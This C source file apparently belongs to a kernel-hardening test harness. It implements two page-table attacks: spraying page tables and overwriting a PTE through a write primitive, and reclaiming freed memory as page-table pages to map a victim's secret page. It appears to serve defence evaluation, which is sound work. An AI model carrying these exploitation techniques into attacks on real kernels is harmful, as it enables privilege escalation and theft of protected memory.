// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks that do not know whose page-table page they hit: they make many and
 * look which of their addresses changed.
 */
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>

#include "attack.h"
#include "list.h"

#define SPRAY_PART	0x50
#define PTE_SPRAY	256
#define STALE_MIB	48	/* of page-table pages */
#define STALE_BLOCKS	16	/* of 2 MiB, freed before */
#define STALE_SIZE	(2UL << 20)

static int find_changed(volatile char *base)
{
	int i;

	for (i = 0; i < PTE_SPRAY; i++)
		if (*(volatile int *)(base + i * PMD_SIZE) != i)
			return i;
	return -1;
}

enum outcome pte_spray(void)
{
	volatile char *base = sparse_region(user_room(SPRAY_PART), PTE_SPRAY, PROT_READ | PROT_WRITE);
	struct slot slot;
	char text[64] = "";
	int i, hit, err;

	if (!base)
		return broken("no room to spray");
	for (i = 0; i < PTE_SPRAY; i++)
		*(volatile int *)(base + i * PMD_SIZE) = i;
	/* Any of them will do; the attacker forgets which. */
	if (kwalk((uint64_t)base + rand() % PTE_SPRAY * PMD_SIZE, LEVEL_PTE, 0, &slot))
		return broken("no page-table page found");
	err = kwrite64(slot.slot, (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW);
	flush_tlb();
	hit = find_changed(base);
	if (hit >= 0)
		snprintf(text, sizeof(text), "%s", (char *)base + hit * PMD_SIZE);
	if (!err)
		kwrite64(slot.slot, slot.value);
	flush_tlb();
	return judge_secret(text, err);
}

static int stale_tables(void)
{
	return (STALE_MIB << 20) / PAGE_SIZE;
}

struct stale {
	uint64_t blocks[STALE_BLOCKS];
};

static bool stale_make(struct stale *stale)
{
	int i;

	if (corrupt_command("alloc order=%d count=%d",
			    __builtin_ctzl(STALE_SIZE / PAGE_SIZE), STALE_BLOCKS))
		return false;
	for (i = 0; i < STALE_BLOCKS; i++)
		stale->blocks[i] = corrupt_answer_nth("address", i);
	return !corrupt_command("free");
}

static bool stale_has(const struct stale *stale, uint64_t addr)
{
	int i;

	for (i = 0; i < STALE_BLOCKS; i++)
		if (addr - stale->blocks[i] < STALE_SIZE)
			return true;
	return false;
}

/* Read faults map the zero page: nothing but page tables is allocated. */
static bool spray_until_reused(volatile char *base, const struct stale *stale,
			       struct window *window)
{
	int i;

	for (i = 0; i < stale_tables(); i++) {
		(void)base[i * PMD_SIZE];
		if (i % 8)
			continue;
		if (!window_open_behind(window, base + i * PMD_SIZE))
			return false;
		if (stale_has(stale, window->slot))
			return true;
	}
	return false;
}

enum outcome stale_ptp(void)
{
	volatile char *base = sparse_region(user_room(SPRAY_PART), stale_tables(), PROT_READ);
	struct window window;
	struct stale stale;
	char text[64];
	int err;

	if (!base || !stale_make(&stale))
		return broken("no memory to free");
	if (!spray_until_reused(base, &stale, &window))
		return lost("none of %d page-table pages came from freed memory", stale_tables());
	err = window_map(&window, plain_store, NULL, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	window_close(&window);
	return judge_secret(text, err);
}
